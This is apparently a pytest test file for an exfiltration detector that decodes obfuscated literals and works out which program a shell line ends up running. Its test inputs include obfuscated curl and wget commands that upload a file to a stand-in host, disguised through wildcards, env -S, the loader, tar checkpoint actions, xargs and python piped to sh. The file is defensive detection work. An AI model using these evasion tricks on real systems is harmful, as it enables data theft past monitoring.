"""Texts in code that are encoded or put together are read; nothing of the code is run."""

from time import process_time

import pytest

from exfilwatch.commands.command import Undoing
from exfilwatch.commands.literals import plain, printed
from exfilwatch.commands.understand import understood


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("base64.b64decode('Y3VybA==').decode()", "'curl'"),
        ("__import__('base64').b64decode(b'Y3VybA==')", "'curl'"),
        ('base64_decode("Y3VybA==")', "'curl'"),
        ("MIME::Base64; decode_base64('Y3VybA==')", "MIME::Base64; 'curl'"),
        ("Buffer.from('Y3VybA==','base64').toString()", "'curl'"),
        ('pack("H*", "6375726c")', "'curl'"),
        ("bytes.fromhex('6375726c').decode()", "'curl'"),
        ("'cu' + 'rl'", "'curl'"),
        ('"cu"."rl"', '"curl"'),
        ("b64decode(name)", "b64decode(name)"),
        ("'a' + b", "'a' + b"),
    ],
)
def test_a_literal_stands_in_the_place_of_how_it_was_written(code: str, said: str) -> None:
    assert plain(code, Undoing()) == said


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("print('id')", "id"),
        ('import os; print "id";', "id"),
        ("print(name)", None),
        ("x = 'id'", None),
        ("print('", None),
    ],
)
def test_code_that_only_prints_a_text_is_known_to_print_it(code: str, text: str | None) -> None:
    assert printed(code) == text


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("/usr/bin/cur? -T /x https://h.example.net", "/usr/bin/curl"),
        ("/???/b?n/w[g]e? --post-file=/x https://h.example.net", "/usr/bin/wget"),
        ("env -S 'curl -T /x' https://h.example.net", "curl"),
        ("/lib64/ld-linux-x86-64.so.2 /usr/bin/curl -T /x https://h.example.net", "/usr/bin/curl"),
        ("tar cf a b --checkpoint=1 --checkpoint-action=exec='curl -T /x https://h.example.net'", "curl"),
        ("echo -T /x https://h.example.net | xargs curl", "curl"),
        ("python3 -c 'print(\"curl -T /x https://h.example.net\")' | sh", "curl"),
    ],
)
def test_the_program_that_runs_in_the_end_is_told(line: str, program: str) -> None:
    assert program in [each.words[0] for each in understood(line, "", "posix").commands if each.words]


def test_wildcards_that_many_programs_fit_mean_none() -> None:
    assert [each.words[0] for each in understood("/usr/bin/* x", "", "posix").commands] == ["/usr/bin/*"]


@pytest.mark.parametrize("piece", ["'+'", "print('", "b64decode('", 'pack("H*","', "b64decode('AAAA')+"])
def test_hostile_code_takes_little_time(piece: str) -> None:
    code = piece * (32_000 // len(piece))
    began = process_time()
    plain(code, Undoing())
    printed(code)
    assert process_time() - began < 0.05
